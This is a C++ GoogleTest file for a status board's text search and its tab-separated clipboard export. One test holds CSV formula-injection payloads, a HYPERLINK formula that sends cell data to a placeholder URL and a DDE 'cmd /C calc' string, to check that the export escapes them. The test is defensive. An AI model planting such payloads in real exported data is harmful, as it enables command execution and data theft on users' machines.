#include "board/BoardSearch.h"

#include "board/Board.h"
#include "board/TableText.h"

#include <gtest/gtest.h>

namespace {

TEST(BoardSearchTest, NumbersAndTextsInAnyCaseAndGbkWhole)
{
    TagMonitor board(40);
    SetCell(board, "Idle", 3, 2, 0, 15);
    SetCell(board, "TALKING", 7, 2, 0, 15);
    SetCell(board, "talk.vox", 12, 1, 0, 15);
    SetCell(board, "\xCD\xA8\xBB\xB0\xD6\xD0", 20, 2, 0, 15); // 通话中
    // A GBK text whose second byte is 'A' (0x41): the query "A" must not find it through half a
    // character. 丄 is 0x81 0x41.
    SetCell(board, "\x81\x41", 25, 4, 0, 15);
    SetCell(board, "queue A", 30, 7, 0, 15);
    const struct {
        const char16_t* query;
        std::vector<int> lines;
    } cases[] = {
        {u"", {}},
        {u"talk", {7, 12}},
        {u"Talking", {7}},
        {u"idle", {3}},
        {u"通话", {20}},
        {u"丄", {25}},
        {u"a", {7, 12, 30}}, // "TALKING", "talk.vox", "queue A"; never the 0x41 of 丄
        {u"39", {39}},
        {u"3", {3, 13, 23, 30, 31, 32, 33, 34, 35, 36, 37, 38, 39}},
        {u"nothing here", {}},
    };
    std::lock_guard lock(board.Lock);
    for (const auto& c : cases) {
        SCOPED_TRACE(testing::PrintToString(std::u16string(c.query).size()));
        EXPECT_EQ(FindLines(board, c.query), c.lines);
    }
}

TEST(BoardSearchTest, NextAndPreviousWrapRound)
{
    const std::vector<int> matches = {4, 9, 17};
    const struct {
        int from;
        bool backwards;
        int next;
    } cases[] = {
        {-1, false, 4}, {4, false, 9}, {5, false, 9}, {17, false, 4}, {30, false, 4},
        {-1, true, 17}, {4, true, 17}, {9, true, 4},  {10, true, 9},  {30, true, 17},
    };
    for (const auto& c : cases)
        EXPECT_EQ(NextMatch(matches, c.from, c.backwards), c.next) << c.from << (c.backwards ? " back" : "");
    EXPECT_EQ(NextMatch({}, 3, false), -1);
}

TEST(TableTextTest, RowsOfTabsAndNewlinesKeepTheirShape)
{
    EXPECT_EQ(TabSeparated({}), "");
    EXPECT_EQ(TabSeparated({{"a", "", "c"}, {"d", "e\tf", "g\r\nh"}}), "a\t\tc\nd\te f\tg  h\n");
    EXPECT_EQ(TabSeparated({{"通话中"}}), "通话中\n");
}

TEST(TableTextTest, PastedCellsNeverRunAsFormulas)
{
    const struct {
        std::string cell;
        std::string pasted;
    } cases[] = {
        {"=HYPERLINK(\"http://x\"&A1)", "'=HYPERLINK(\"http://x\"&A1)"},
        {"+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"},
        {"-5", "'-5"},
        {"@SUM(A1)", "'@SUM(A1)"},
        {"Idle", "Idle"},
        {"a=b", "a=b"},
        {"\tx", " x"},                          // a tab inside a cell is a blank, as before
        {"\x1B[31mred", "\xEF\xBF\xBD[31mred"}, // no control character reaches the clipboard
        {"\x7F=x", "\xEF\xBF\xBD=x"},
    };
    for (const auto& c : cases)
        EXPECT_EQ(TabSeparated({{"1", c.cell}}), "1\t" + c.pasted + "\n") << c.cell;
}

TEST(TableTextTest, ControlsBecomeTheReplacementCharacter)
{
    std::string all;
    for (int b = 1; b < 0x20; ++b)
        all += char(b);
    all += "\x7F\xE9\x80\x9A";
    std::string expected;
    for (int b = 1; b <= 0x20; ++b)
        expected += "\xEF\xBF\xBD";
    expected += "\xE9\x80\x9A";
    EXPECT_EQ(WithoutControls(all), expected);
    EXPECT_EQ(WithoutControls("plain text"), "plain text");
}

} // namespace
